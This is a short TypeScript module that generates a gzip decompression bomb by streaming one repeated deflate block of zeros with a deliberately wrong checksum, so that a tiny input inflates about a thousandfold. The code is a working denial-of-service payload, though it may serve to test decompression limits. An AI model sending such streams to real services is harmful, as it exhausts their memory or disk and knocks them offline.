/**
 * A gzip stream that inflates a thousandfold, generated without holding it in memory: one compressed block of zeros,
 * repeated (RFC 1951 blocks without back-references to earlier blocks may be repeated).
 */
import { constants, deflateRawSync } from 'node:zlib'

const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])

/**
 * Generates the stream.
 * @param megabytes inflated size, megabytes.
 * @returns the stream in pieces; its checksum is wrong, since no reader should reach the end.
 */
export function* gzipBomb(megabytes: number): Generator<Buffer> {
  const block = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH, level: 9 })
  yield header
  for (let n = 0; n < megabytes; n += 1) yield block
  yield Buffer.from([3, 0, 0, 0, 0, 0, 0, 0, 0, 0])
}
